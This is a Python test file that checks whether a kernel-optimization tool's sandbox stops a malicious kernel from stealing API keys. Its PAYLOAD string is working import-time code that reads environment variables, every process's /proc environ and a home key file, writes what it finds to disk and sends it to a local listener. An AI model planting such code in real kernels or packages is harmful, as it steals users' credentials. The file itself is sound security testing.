"""Tests for autokernel/verify/isolated.py: a kept kernel's import-time payload, run by verify and by
autokernel.optimize, finds no key anywhere and writes nothing outside its sandbox (issue 24).

The payload looks where an outside review found the key before: os.environ, /proc/self/environ, its parent's
and every other process's environment, a key file in the home folder; it tries to write what it found to /tmp,
the working folder and the home folder, and to send it to a server on 127.0.0.1. The kernel is otherwise the
correct reference, so verify passes: the payload ran, and found nothing.
"""

import os

os.environ.setdefault("TRITON_INTERPRET", "1")

import socket  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import threading  # noqa: E402
import uuid  # noqa: E402

import pytest  # noqa: E402
import torch  # noqa: E402

from autokernel.verify import verify_command as verify  # noqa: E402
from autokernel import api  # noqa: E402
from autokernel.core import paths  # noqa: E402
from autokernel.core.run_records import RunState  # noqa: E402
from autokernel.search import session  # noqa: E402
from autokernel.verify.verification import EXIT_PASS, REPORT_FILE  # noqa: E402
from tests.test_plugin import reference_kernel, write_optimized  # noqa: E402
from tests.test_verify import SOFTMAX_MODEL  # noqa: E402

# Every test here starts real judges or the loop in child processes: the full suite's, not the fast tier's.
pytestmark = pytest.mark.slow

PAYLOAD = '''
import glob as _glob, os as _os, socket as _socket
_found = ["env " + name + "=" + value for name, value in _os.environ.items()]
for _path in ["/proc/self/environ", f"/proc/{{_os.getppid()}}/environ"] + _glob.glob("/proc/[0-9]*/environ"):
    try:
        _found.append(_path + ": " + open(_path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
try:
    _found.append("keyfile: " + open({key_file!r}).read())
except OSError:
    pass
_wrote = []
for _target in ({targets}):
    try:
        open(_target, "w").write("\\n".join(_found))
        _wrote.append(_target)
    except OSError:
        pass
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall("\\n".join(_found).encode())
    _connected = True
except OSError:
    _connected = False
print("PAYLOAD RAN: wrote", _wrote, "connected", _connected)
print("PAYLOAD FOUND:", " | ".join(_found))
'''


class _Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(1 << 20))


def _plant(tmp_path, monkeypatch):
    """Keys where a user has them; a kept softmax kernel with the payload; a sibling process holding a key."""
    secret = f"sk-secret-{uuid.uuid4().hex}"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    monkeypatch.setenv("ANTHROPIC_API_KEY", secret + "-ant")
    home = tmp_path / "home"
    (home / ".config").mkdir(parents=True)
    key_file = home / ".config" / "keys"
    key_file.write_text(secret + "-file")
    monkeypatch.setenv("HOME", str(home))
    listener = _Listener()
    targets = [f"/tmp/autokernel-stolen-{secret}", str(tmp_path / "stolen"), str(home / "stolen")]
    payload = PAYLOAD.format(key_file=str(key_file), targets=", ".join(map(repr, targets)), port=listener.port)
    folder = write_optimized(tmp_path / "opt", {"softmax": [{"M": 4, "N": 32}]},
                             sources={"softmax": payload + reference_kernel("softmax")})
    sibling = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"],
                               env={**os.environ, "SIBLING_KEY": secret + "-sibling"})
    return secret, folder, listener, targets, sibling


def _nothing_leaked(secret, output, listener, targets):
    assert "PAYLOAD RAN" in output, "the payload never ran: the test proves nothing"
    assert secret not in output, "the payload found a key"
    assert "connected False" in output and not listener.received
    assert not [target for target in targets if os.path.exists(target)]


def test_verify_runs_a_kept_kernel_where_its_payload_finds_no_key_and_writes_nothing(tmp_path, monkeypatch, capfd):
    secret, folder, listener, targets, sibling = _plant(tmp_path, monkeypatch)
    model = tmp_path / "softmax_model.py"
    model.write_text(SOFTMAX_MODEL)
    try:
        code = verify.main([str(model), "--device", "cpu", "--optimized-dir", str(folder), "--workspace",
                            str(tmp_path / "ws"), "--no-compile", "--route", "all"])
    finally:
        sibling.kill()
    output = "".join(capfd.readouterr())
    assert code == EXIT_PASS, output
    assert "PAYLOAD RAN" not in output, "what the kernel prints is not verify's own: the workspace's log has it"
    logged = (tmp_path / "ws" / "torch.log").read_text()
    _nothing_leaked(secret, output + logged, listener, targets)
    assert (tmp_path / "ws" / REPORT_FILE).is_file(), "the parent records what the child handed back"


def test_optimize_compares_in_the_sandbox_where_the_payload_finds_no_key(tmp_path, monkeypatch, capfd):
    secret, folder, listener, targets, sibling = _plant(tmp_path, monkeypatch)
    monkeypatch.setattr(paths, "WORKSPACE", tmp_path / "ws")
    monkeypatch.setattr(paths, "OPTIMIZED_DIR", folder)

    def run_optimization(**kwargs):
        jobs = kwargs["plan"](lambda line: None)
        return RunState(tag=kwargs["tag"], jobs=jobs, kept_commit="abc", settings=kwargs["settings"],
                        job_index=len(jobs), done=True)

    monkeypatch.setattr(session, "run_optimization", run_optimization)
    model = torch.nn.Softmax(dim=-1).eval()
    try:
        returned = api.optimize(model, torch.randn(4, 32), top=1)
    finally:
        sibling.kill()
    output = "".join(capfd.readouterr())
    _nothing_leaked(secret, output, listener, targets)
    assert returned.autokernel_choice.variant == "eager"
